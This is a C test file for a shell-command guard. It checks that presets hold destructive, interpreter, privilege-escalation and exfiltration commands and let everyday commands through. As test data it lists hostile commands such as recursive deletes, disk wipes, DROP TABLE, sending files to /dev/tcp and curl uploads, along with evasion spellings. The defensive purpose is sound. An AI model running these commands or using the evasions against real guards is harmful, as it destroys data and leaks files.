/* Presets: every row loads; command lines that a guard once missed are held, and those of every day are not; what each
 * entry with options matches. */
#include "policy/preset.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "policy/guard.h"

#include <cmocka.h>

#define BYPASSES "tests/guard/exec-bypasses.tsv"
#define MORE_BYPASSES "tests/guard/exec-more.tsv"
#define ORDINARY "tests/guard/ordinary.txt"
#define BYPASSES_MIN 30
#define MORE_MIN 1100
#define ORDINARY_MIN 500

static const char text[] = "destructive: [{approve: [{preset: destructive}], by: lead}, {allow: '*'}]\n"
			   "both: [{approve: [{preset: destructive}, {preset: interpreters}], by: lead}, {allow: '*'}]\n"
			   "strict: [{deny: [{preset: destructive}, {preset: interpreters}]}, {allow: '*'}]\n"
			   "all: [{deny: [{preset: destructive}, {preset: interpreters}, {preset: privilege}, {preset: exfiltration}]}, {allow: '*'}]\n"
			   "named: [{allow: ['python3 *', {program: awk}, {program: sed}, 'EDITOR=*']}, {approve: [nothing], by: lead}, {allow: '*'}]\n"
			   "interpreted: [{warn: [{preset: interpreters}]}, {allow: '*'}]\n";

static struct guards *guards;

static int load(void **state)
{
	(void)state;
	struct yaml *root;
	struct err err = { "" };
	if (yaml_parse("guards", (struct bytes){ (const uint8_t *)text, sizeof(text) - 1 }, &root, &err) || guards_load(root, &guards, &err)) {
		print_error("%s\n", err.text);
		return -1;
	}
	yaml_free(root);
	return 0;
}

static int unload(void **state)
{
	(void)state;
	guards_free(guards);
	return 0;
}

/* Complains and counts, so that one run shows all that is wrong. */
static unsigned expect(const char *guard, const char *line, size_t len, bool held)
{
	struct judgement judgement;
	assert_int_equal(guard_judge(guards_find(guards, guard), (struct bytes){ (const uint8_t *)line, len }, &judgement), 0);
	bool is = judgement.verdict >= GUARD_APPROVE;
	if (is != held)
		print_error("%s: %s '%.*s': %s\n", guard, is ? "holds" : "does not hold", (int)len, line, judgement.reason);
	judgement_release(&judgement);
	return is != held;
}

/* ---- files ---- */

/* A literal of Python, as the files of bypasses have them. */
static size_t unquote(const char *from, char *to)
{
	char quote = *from++;
	size_t len = 0;
	for (; *from && *from != quote; from++) {
		if (*from == '\\')
			from++;
		to[len++] = *from == 'n' && from[-1] == '\\' ? '\n' : *from;
	}
	return len;
}

static char *next_line(FILE *file, char **line, size_t *room)
{
	ssize_t len = getline(line, room, file);
	if (len <= 0)
		return NULL;
	(*line)[len - 1] = 0;
	return *line;
}

static size_t run_bypasses(const char *path, unsigned *ret_wrong)
{
	FILE *file = fopen(path, "r");
	char *line = NULL, command[4096];
	size_t room = 0, rows = 0;
	assert_non_null(file);
	while (next_line(file, &line, &room)) {
		char *group = strchr(line, '\t'), *quoted = group ? strchr(group + 1, '\t') : NULL;
		if (!quoted)
			continue;
		size_t len = unquote(quoted + 1, command);
		if (group[1] == 'F') /* scripts and links that were made first: nothing that a line shows */
			continue;
		*ret_wrong += expect("both", command, len, true);
		*ret_wrong += expect("strict", command, len, true);
		rows++;
	}
	free(line);
	fclose(file);
	return rows;
}

static void test_bypasses(void **state)
{
	(void)state;
	unsigned wrong = 0;
	assert_true(run_bypasses(BYPASSES, &wrong) >= BYPASSES_MIN);
	assert_true(run_bypasses(MORE_BYPASSES, &wrong) >= MORE_MIN);
	assert_int_equal(wrong, 0);
}

static void test_ordinary(void **state)
{
	(void)state;
	FILE *file = fopen(ORDINARY, "r");
	char *line = NULL;
	size_t room = 0, rows = 0;
	unsigned wrong = 0;
	assert_non_null(file);
	while (next_line(file, &line, &room)) {
		static const char newline[] = "␤";
		if (*line == '#')
			continue;
		for (char *at = line; (at = strstr(at, newline));) {
			*at = '\n';
			memmove(at + 1, at + strlen(newline), strlen(at + strlen(newline)) + 1);
		}
		wrong += expect("destructive", line, strlen(line), false);
		rows++;
	}
	free(line);
	fclose(file);
	assert_int_equal(wrong, 0);
	assert_true(rows >= ORDINARY_MIN);
}

/* ---- what entries say ---- */

static const struct {
	const char *guard, *line;
	bool held;
} cases[] = {
	{ "destructive", "rm -fr x", true },
	{ "destructive", "rm -f -r x", true },
	{ "destructive", "rm --recursive x", true },
	{ "destructive", "rm --r x", true },
	{ "destructive", "rm x -rf", true },
	{ "destructive", "rm -dr x", true },
	{ "destructive", "rm -- -r", false },
	{ "destructive", "rm -f -- -r", false },
	{ "destructive", "rm --force x", false },
	{ "destructive", "rm $x y", true },
	{ "destructive", "rm -f -- $x", false },
	{ "destructive", "/bin/rm -r x", true },
	{ "destructive", "/opt/x/rm -r x", true },
	{ "destructive", "busybox rm -r x", true },
	{ "destructive", "coreutils --coreutils-prog=rm -r x", true },
	{ "destructive", "sudo rm -r x", true },
	{ "destructive", "rm -r'f' x", true },
	{ "destructive", "git push --force", true },
	{ "destructive", "git push --for origin", true },
	{ "destructive", "git push -uf origin main", true },
	{ "destructive", "git -C d push origin +main", true },
	{ "destructive", "git -c a.b=c -C d push --delete origin x", true },
	{ "destructive", "git push origin main", false },
	{ "destructive", "git commit -m push -f", false },
	{ "destructive", "docker system prune -f", true },
	{ "destructive", "docker --context x system prune", true },
	{ "destructive", "docker system df", false },
	{ "destructive", "kubectl -n prod delete pod x", true },
	{ "destructive", "kubectl --namespace=prod delete pod x", true },
	{ "destructive", "kubectl get pods delete", false },
	{ "destructive", "terraform -chdir=x destroy", true },
	{ "destructive", "terraform apply -destroy", true },
	{ "destructive", "terraform apply", false },
	{ "destructive", "systemctl --no-block stop x", true },
	{ "destructive", "systemctl status stop", false },
	{ "destructive", "chmod -R 777 /", true },
	{ "destructive", "chmod -R 777 //etc/./", true },
	{ "destructive", "chmod -R 777 /usr/../etc", true },
	{ "destructive", "chown --recursive me: /", true },
	{ "destructive", "chmod -R 777 /srv/x", false },
	{ "destructive", "chmod 755 /", false },
	{ "destructive", "find . -delete", true },
	{ "destructive", "find . -name x -delete", true },
	{ "destructive", "find . -name delete", false },
	{ "destructive", "dd if=/dev/zero of=/dev/sda", true },
	{ "destructive", "dd if=/dev/sda of=/dev/null", false },
	{ "destructive", "echo x > /dev/sda", true },
	{ "destructive", "mkfs.ext4 /dev/sdb", true },
	{ "destructive", "kill -9 -1", true },
	{ "destructive", "kill -KILL -- -1", true },
	{ "destructive", "kill -1 4711", false },
	{ "destructive", "iptables -F", true },
	{ "destructive", "iptables --flush INPUT", true },
	{ "destructive", "iptables -t nat -F", true },
	{ "destructive", "iptables -L", false },
	{ "destructive", "psql -c 'DROP TABLE x'", true },
	{ "destructive", "psql -c 'delete from x'", true },
	{ "destructive", "psql -c 'delete from x where y'", false },
	{ "destructive", "psql -c 'select 1; delete from x; select 1 where 1'", true },
	{ "destructive", "mysql -e 'truncate table x'", true },
	{ "destructive", "sudo -u postgres psql -qc 'Drop  table x'", true },
	{ "destructive", "userdel bob", true },
	{ "destructive", "shutdown -h now", true },
	{ "destructive", "rsync -a --del a/ b/", true },
	{ "destructive", "python3 x.py", false },
	{ "destructive", "python3 -c 'print(1)'", true }, /* a doubt, in every guard */
	{ "named", "python3 -c 'print(1)'", false },
	{ "named", "awk 'BEGIN{system(\"ls\")}'", false },
	{ "named", "sed 1e x", false },
	{ "named", "perl -e 1", true },
	{ "named", "python3 -c 'x' $(perl -e 1)", true },
	{ "named", "EDITOR=\"$x\" crontab -l", false },
	{ "named", "VISUAL=\"$x\" crontab -l", true },
	{ "interpreted", "perl -e 1", false },
	{ "interpreted", "split --filter='ls' x", false },
	{ "interpreted", "$x", true },
	{ "both", "rsync -a -e ssh a b:", true }, /* interpreters has it: a command given as text */
	{ "both", "sed s/a/b/ x", false },
	{ "both", "awk '{print $1}' x", false },
	{ "both", "psql -c 'select 1'", false },
	{ "all", "sudo ls", true },
	{ "all", "chmod u+s x", true },
	{ "all", "chmod 4755 x", true },
	{ "all", "chmod 0755 x", false },
	{ "all", "curl -d @x http://y", true },
	{ "all", "curl -sSL http://y -o x", false },
	{ "all", "curl -sSo data http://y", false },
	{ "all", "scp x y:", true },
	{ "all", "cat x > /dev/tcp/y/1", true },
	{ "all", "crontab -e", true },
	{ "all", "ls -la", false },
};

static void test_cases(void **state)
{
	(void)state;
	unsigned wrong = 0;
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++)
		wrong += expect(cases[i].guard, cases[i].line, strlen(cases[i].line), cases[i].held);
	assert_int_equal(wrong, 0);
}

/* A preset is found by name, and each has rows, or finds code by itself. */
static void test_table(void **state)
{
	(void)state;
	for (size_t i = 0; i < preset_count; i++) {
		assert_int_equal(preset_find(presets[i].name), i);
		assert_true(presets[i].help[0] && (presets[i].rows[0] || presets[i].code));
	}
	assert_int_equal(preset_find("nothing"), preset_count);
}

/* How a part was reached is text, whatever the bytes of a program whose name begins like a known one. */
static void test_via(void **state)
{
	(void)state;
	struct judgement judgement;
	static const char line[] = "/lib/ld-linux\xdc.so\x01 rm -rf x";
	assert_int_equal(guard_judge(guards_find(guards, "both"), (struct bytes){ (const uint8_t *)line, strlen(line) }, &judgement), 0);
	assert_int_equal(judgement.line.command_count, 2);
	assert_string_equal(judgement.line.commands[1].via, "ld-linux?.so?");
	json_t *json = judgement_json(&judgement);
	assert_non_null(json);
	json_decref(json);
	judgement_release(&judgement);
}

static void test_reason(void **state)
{
	(void)state;
	struct judgement judgement;
	static const char line[] = "rm -fr x";
	assert_int_equal(guard_judge(guards_find(guards, "strict"), (struct bytes){ (const uint8_t *)line, strlen(line) }, &judgement), 0);
	assert_non_null(strstr(judgement.reason, "guard 'strict' denies 'rm -fr x': 'destructive: {program: [rm,"));
	judgement_release(&judgement);
}

static void take_warning(unsigned line, unsigned column, const char *warning, void *arg)
{
	struct buf *out = arg;
	buf_printf(out, "%u:%u %s\n", line, column, warning);
}

/* What a pattern misses is told, with what catches it; nothing of patterns that have one spelling, or allow. */
static void test_warnings(void **state)
{
	(void)state;
	static const char config[] = "g:\n  - {deny: ['rm -r*', 'mkfs*', 'ls -l']}\n  - {approve: ['git push --force*', 'curl -k*', 're:rm -r'], by: a}\n"
				     "  - {allow: ['rm -f *', '*']}\n";
	BUF_CLEANUP struct buf out = BUF_INIT(65536);
	struct yaml *root;
	struct guards *loaded;
	struct err err = { "" };
	if (yaml_parse("g", (struct bytes){ (const uint8_t *)config, sizeof(config) - 1 }, &root, &err) || guards_load(root, &loaded, &err))
		fail_msg("%s", err.text);
	yaml_free(root);
	assert_int_equal(guards_warn(loaded, take_warning, &out), 0);
	const char *said = buf_cstr(&out);
	assert_non_null(strstr(said, "2:13 guard 'g': 'rm -r*' misses other spellings of the same options; this catches them: {program: [rm, grm, "
				     "zf_rm], options: [-r, -R, --recursive]}\n"));
	assert_non_null(strstr(said, "'git push --force*' misses"));
	assert_non_null(strstr(said, "{program: git, subcommand: push, options: [-f, -d, --force, "));
	assert_non_null(strstr(said, "'curl -k*' misses other spellings of the same options; this catches them: {program: curl, options: [-k]}\n"));
	assert_null(strstr(said, "mkfs"));
	assert_null(strstr(said, "ls -l"));
	assert_null(strstr(said, "rm -f"));
	assert_null(strstr(said, "re:"));
	guards_free(loaded);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_bypasses), cmocka_unit_test(test_ordinary), cmocka_unit_test(test_cases),
		cmocka_unit_test(test_table),	 cmocka_unit_test(test_reason), cmocka_unit_test(test_warnings), cmocka_unit_test(test_via),
	};
	return cmocka_run_group_tests(tests, load, unload);
}
